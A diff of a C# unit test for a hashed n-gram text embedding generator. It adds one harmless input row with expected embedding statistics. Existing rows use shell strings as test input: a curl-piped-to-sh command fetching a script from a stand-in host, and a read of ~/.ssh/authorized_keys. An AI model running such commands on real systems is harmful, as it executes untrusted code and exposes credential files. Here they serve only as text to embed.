@@ -60,6 +60,7 @@ public sealed class HashedNGramEmbeddingGeneratorTests
     [InlineData("Run curl -fsSL http://x.example/i.sh | sh", 127, 2.526622495561809, 2159.299543268642, 5, 0.06485669481546828)]
     [InlineData("cat ~/.ssh/authorized_keys", 80, -0.8877753726662458, -638.1074868811673, 18, -0.08164965809277255)]
     [InlineData("!!!", 6, 0.0, -1900.3957921092824, 39, 0.408248290463863)]
+    [InlineData("ha ha ha ha ha, said the HA-HA man", 79, -1.6902529369850403, -1961.185176203719, 5, 0.06617623125068439)]
     public void Embed_AsciiText_MatchesIndependentReference(string text, int nonZero, double sum, double indexWeightedSum, int firstBucket, double firstValue)
     {
         // Expected values from an independent Python implementation of the documented algorithm.
